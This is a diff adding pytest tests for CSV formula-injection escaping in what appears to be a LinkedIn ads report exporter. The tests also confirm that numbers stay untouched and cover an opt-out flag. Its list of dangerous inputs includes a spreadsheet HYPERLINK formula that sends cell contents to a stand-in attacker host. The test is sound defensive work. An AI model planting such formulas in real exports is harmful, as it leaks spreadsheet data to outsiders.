@@ -159,3 +159,61 @@ def test_missing_keys_are_written_as_null() -> None:
     target = io.BytesIO()
     write_rows([{"campaign": "c"}], target, COLUMNS)
     assert json.loads(target.getvalue())["costInUsd"] is None
+
+
+# ── CSV formula injection (OWASP): text cells neutralised, numbers never ─────────────────────────
+
+FORMULA_COLUMNS = (
+    Column("campaign", ColumnKind.STRING),
+    Column("campaign_name", ColumnKind.STRING),
+    Column("costInUsd", ColumnKind.DECIMAL),
+    Column("impressions", ColumnKind.LONG),
+    Column("averageDwellTime", ColumnKind.DOUBLE),
+    Column("newMetric", ColumnKind.RAW),
+)
+DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
+
+
+def _csv_rows(rows: list[ReportRow], **options: bool) -> list[list[str]]:
+    target = io.BytesIO()
+    write_rows(rows, target, FORMULA_COLUMNS, output_format="csv", **options)
+    return list(csv.reader(io.StringIO(target.getvalue().decode("utf-8"), newline="")))[1:]
+
+
+@pytest.mark.parametrize("name", DANGEROUS)
+def test_csv_neutralises_formula_text_cells(name: str) -> None:
+    row: ReportRow = {"campaign": "urn:li:sponsoredCampaign:1", "campaign_name": name, "newMetric": name}
+    (cells,) = _csv_rows([row])
+    assert cells[1] == "'" + name
+    # An unknown metric's text is neutralised too, unless it is a plain number ("+1" is the number 1).
+    assert cells[5] == (name if name == "+1" else "'" + name)
+    assert cells[0] == "urn:li:sponsoredCampaign:1"
+
+
+def test_csv_never_touches_numbers() -> None:
+    row: ReportRow = {
+        "campaign_name": "Brand - EMEA",
+        "costInUsd": Decimal("-2.5"),
+        "impressions": -3,
+        "averageDwellTime": -0.5,
+        "newMetric": "-2.5",  # an unknown metric LinkedIn sent as a decimal string
+    }
+    (cells,) = _csv_rows([row])
+    assert cells == ["", "Brand - EMEA", "-2.5", "-3", "-0.5", "-2.5"]
+
+
+def test_csv_opt_out_writes_text_verbatim() -> None:
+    row: ReportRow = {"campaign_name": "=1+1", "newMetric": "@x"}
+    (cells,) = _csv_rows([row], csv_escape_formulas=False)
+    assert cells[1] == "=1+1"
+    assert cells[5] == "@x"
+
+
+@pytest.mark.parametrize("output_format", ["jsonl", "parquet"])
+def test_json_lines_and_parquet_keep_formula_text_verbatim(output_format: str) -> None:
+    target = io.BytesIO()
+    write_rows([{"campaign_name": "=1+1"}], target, FORMULA_COLUMNS, output_format=output_format)
+    if output_format == "jsonl":
+        assert json.loads(target.getvalue())["campaign_name"] == "=1+1"
+    else:
+        assert pq.read_table(io.BytesIO(target.getvalue())).column("campaign_name").to_pylist() == ["=1+1"]
